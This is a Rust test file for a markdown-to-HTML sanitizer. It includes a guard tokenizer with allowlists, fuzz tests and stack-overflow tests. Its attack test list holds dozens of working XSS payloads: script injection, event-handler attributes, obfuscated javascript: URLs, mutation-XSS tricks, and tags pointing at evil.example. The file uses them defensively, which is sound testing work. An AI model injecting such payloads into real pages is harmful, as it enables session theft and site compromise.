//! Hostile and random input: nothing unsafe leaves, nothing panics, hangs or overflows the stack.

use std::cell::RefCell;

use glashaus::model::prose::{Hole, LinkTarget, Piece, Prose, escape, escape_url};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use proptest::prelude::*;

use super::{cell, inline, page};

/// Fills the holes as a plan would, with HTML that holds quotation marks.
fn fill(prose: &Prose) -> String {
    let parts = prose.pieces().map(|piece| match piece {
        Piece::Html(html) => html.to_owned(),
        Piece::Hole(Hole::Url(target)) => escape_url(&match &target.value {
            LinkTarget::Record(address) => {
                let (kind, id, anchor) = LinkTarget::parts(address);
                format!("/{kind}/{id}#{anchor}")
            }
            LinkTarget::Anchor(anchor) => format!("#{anchor}"),
            LinkTarget::Path(path) => path.to_string(),
            LinkTarget::External(url) => url.to_string(),
            LinkTarget::Mail(address) => format!("mailto:{address}"),
            LinkTarget::Phone(number) => format!("tel:{number}"),
        }),
        Piece::Hole(Hole::Value(value)) => format!("<a href=\"/v\">{}</a>", escape(&value.name.value)),
        Piece::Hole(Hole::Block(_)) => "<table><tbody><tr><td>b</td></tr></tbody></table>".to_owned(),
        Piece::Hole(Hole::Picture(picture)) => {
            format!("<img src=\"/{}\" alt=\"{}\">", escape_url(&picture.source.value), escape(&picture.alt.value))
        }
        Piece::Hole(Hole::Interface(id)) => format!("&quot;{id}&quot;"),
    });
    parts.collect()
}

/// Everything unsafe that a browser would find in HTML.
#[derive(Default)]
struct Guard(RefCell<Vec<String>>);

const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
];
const ATTRIBUTES: &[&str] = &[
    "alt",
    "aria-label",
    "class",
    "colspan",
    "datetime",
    "dir",
    "headers",
    "href",
    "hreflang",
    "id",
    "lang",
    "open",
    "rel",
    "reversed",
    "role",
    "rowspan",
    "scope",
    "span",
    "src",
    "start",
    "tabindex",
    "title",
    "type",
    "value",
];

impl TokenSink for Guard {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let mut unsafe_parts = self.0.borrow_mut();
        match token {
            Token::TagToken(tag) => {
                if !ELEMENTS.contains(&&*tag.name) {
                    unsafe_parts.push(format!("<{}>", tag.name));
                }
                if tag.kind == TagKind::StartTag {
                    for attribute in &tag.attrs {
                        let (name, value) = (&*attribute.name.local, attribute.value.trim().to_ascii_lowercase());
                        let address = matches!(name, "href" | "src");
                        let scheme = value
                            .split(['/', '?', '#'])
                            .next()
                            .unwrap_or_default()
                            .split_once(':')
                            .map(|(scheme, _)| scheme);
                        let allowed = scheme.is_none_or(|scheme| matches!(scheme, "http" | "https" | "mailto" | "tel"));
                        let local = &*tag.name != "img" || value.starts_with("/media/");
                        if !ATTRIBUTES.contains(&name) || (address && !(allowed && local && !value.starts_with("//"))) {
                            unsafe_parts.push(format!("{name}={value}"));
                        }
                    }
                }
            }
            Token::CommentToken(comment) => unsafe_parts.push(format!("<!--{comment}-->")),
            Token::DoctypeToken(_) => unsafe_parts.push("<!doctype>".to_owned()),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn unsafe_parts(html: &str) -> Vec<String> {
    let tokenizer = Tokenizer::new(Guard::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

#[track_caller]
fn is_safe(source: &str) {
    for (prose, _) in [page(source), inline(source), cell(source)] {
        let html = fill(&prose);
        assert_eq!(unsafe_parts(&html), [""; 0], "from {source:?}\nto {html}");
        assert!(!html.contains(['\u{fdd0}', '\u{fdd1}']), "a mark remains in {html}");
    }
}

#[test]
fn the_guard_sees_what_is_unsafe() {
    for html in [
        "<script>",
        "<p onclick=x>",
        "<a href=' JavaScript:x'>",
        "<a href=//x>",
        "<img src=https://x>",
        "<p style=x>",
        "<svg>",
        "<!-- x -->",
    ] {
        assert_eq!(unsafe_parts(html).len(), 1, "{html}");
    }
}

#[test]
fn no_attack_gets_through() {
    for source in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></ScRiPt >",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\"",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:x\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"javascript:alert(1)\"></object><embed src=x>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" &#14;javascript:alert(1)\">x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<div><a href=&#xfdd0;0&#xfdd1;javascript:x>x</a></div>",
        "<a href='data:text/html,<script>x</script>'>x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"x\" href=\"javascript:x\">x</a>",
        "<a/href=javascript:x>x</a>",
        "<b style=\"background:url(javascript:x)\">x</b>",
        "<style>@import 'https://evil.example'</style>",
        "<link rel=stylesheet href=https://evil.example>",
        "<meta http-equiv=refresh content=\"0;url=javascript:x\">",
        "<base href=\"https://evil.example\">",
        "<form action=https://evil.example><input name=x><button formaction=javascript:x>y</button></form>",
        "<textarea><script>x</script></textarea>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><a title=\"</title><img src=x onerror=x>\">",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><img src=x onerror=x> -->",
        "<![CDATA[<img src=x onerror=x>]]>",
        "<?php <img src=x onerror=x> ?>",
        "<div title=\"\n\n:sub[x] onmouseover=alert(1)\n\n\">",
        "<div title=\"\n\n![a](media/x.svg) onmouseover=alert(1)\n\n\">",
        "<div title=\"\n\n::changes\n\nonmouseover=alert(1) \">",
        "<div title='\n\n[x](page:x) [x](https://x \"' onclick=alert(1) '\")\n\n'>",
        "<a href=\"\u{fdd0}0\u{fdd1}\">:sub[x]</a>",
        "<b title=\"&#xfdd0;0&#xfdd1;\">:sub[x]</b>",
        "<a href=\"&#xfdd0;0&#xfdd1;\">:sub[x]</a> &#xfdd0;1&#xfdd1; [y](page:y)",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT&colon;alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](<java script:alert(1)>)",
        "[x](&#x01;javascript:alert(1))",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "[x](https://x\"onclick=alert(1)//)",
        "[x](page:\"onclick=alert(1))",
        "[x](https://x \"\\\" onclick=alert(1) x=\\\"\")",
        "![\" onerror=alert(1) x=\"](media/x.svg)",
        "![x](media/x\"onerror=alert(1).svg)",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/p.gif)",
        "# x {#\"onclick=alert(1)}",
        "# x {onclick=alert(1) .a style=x}",
        "```\" onclick=alert(1)\nx\n```",
        "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
        ":sub[\"><script>alert(1)</script>]",
        "::a{b=\"<script>\"}",
        "`<script>alert(1)</script>`",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=x> |",
        "> <script>\n> alert(1)\n> </script>",
        "(a) <script>\n(b) alert(1)</script>",
        "<p>:sub[<b]<b x=\">\">",
    ] {
        is_safe(source);
    }
}

#[test]
fn nothing_hangs_or_overflows() {
    let long = 5_000_000;
    for (name, source) in [
        ("quotations", ">".repeat(10_000)),
        ("quotations of a line", "> ".repeat(long / 50)),
        ("brackets", "[".repeat(10_000)),
        ("links", "[a](".repeat(10_000)),
        ("pictures", "![".repeat(10_000)),
        ("emphasis", "*a ".repeat(10_000)),
        ("strong", "**a_b".repeat(10_000)),
        ("lists", "- ".repeat(5_000)),
        ("items", (0..300).map(|depth| format!("{}- x\n", "  ".repeat(depth))).collect()),
        ("a long line", "wort ".repeat(long / 5)),
        ("stars", "a*".repeat(long / 20)),
        ("directives", ":a[b] ".repeat(20_000)),
        ("open directives", ":a[".repeat(100_000)),
        ("open attributes", ":a[b]{c=\"".repeat(20_000)),
        ("marks", "(a) x\n".repeat(50_000)),
        ("references", "[^a]".repeat(20_000)),
        ("headings", "# x\n".repeat(20_000)),
        ("raw elements", "<div>\n\n".repeat(20_000)),
        ("raw formatting", (0..20_000).map(|number| format!("<b id=\"{number}\">\n\n")).collect()),
        ("raw attributes", format!("<b {}>", "a='".repeat(20_000))),
        ("raw starts", "<a <b".repeat(20_000)),
        ("entities", "&#xfdd0;&amp;".repeat(20_000)),
    ] {
        let (prose, _) = page(&source);
        inline(&source);
        assert!(prose.pieces().count() <= source.len() + 1, "{name}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn random_bytes_become_safe_html(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        is_safe(&String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn random_markup_becomes_safe_html(parts in prop::collection::vec(prop::sample::select(PARTS), 0..40)) {
        let source = parts.concat();
        is_safe(&source);
        prop_assert_eq!(page(&source), page(&source));
    }

    #[test]
    fn positions_lie_in_the_source_at_borders_of_letters(parts in prop::collection::vec(prop::sample::select(PARTS), 0..40)) {
        let source = parts.concat();
        for span in page(&source).1.into_iter().filter_map(|finding| finding.span) {
            prop_assert!(source.get(span.start..span.end).is_some(), "{:?} in {:?}", span, source);
        }
    }
}

const PARTS: &[&str] = &[
    "a",
    "ä",
    " ",
    "\n",
    "\r\n",
    "\n\n",
    "*",
    "**",
    "_",
    "`",
    "```\n",
    "~",
    "[",
    "]",
    "(",
    ")",
    "](",
    "![",
    "<",
    ">",
    "\"",
    "'",
    "=",
    "{",
    "}",
    "{#",
    ":",
    "::",
    ":sub[",
    ":sub[x]",
    "::a{b=\"c\"}",
    "[^1]",
    "[^1]: ",
    "> ",
    "> [!NOTE]\n",
    "- ",
    "1. ",
    "(a) ",
    "(b) ",
    "(1) ",
    "# ",
    "|",
    "|-|\n",
    "\\",
    "&",
    "&#x1;",
    "&#xfdd0;0&#xfdd1;",
    "\u{fdd0}",
    "\u{1}",
    "\u{7f}",
    "\u{85}",
    "🏳️‍🌈",
    "<b>",
    "</b>",
    "<div>",
    "</div>",
    "<div title=\"",
    "<script>",
    "</script>",
    "<a href=",
    "<a href=\"",
    "onclick=x ",
    "javascript:x",
    "page:x",
    "https://x",
    "media/x.svg",
    "<!--",
    "-->",
    "<details>\n\n",
    "<p>",
    "<table>",
    "<tr>",
    "<td>",
    "Kund*innen",
    "    ",
    "\t",
    "---\n",
];
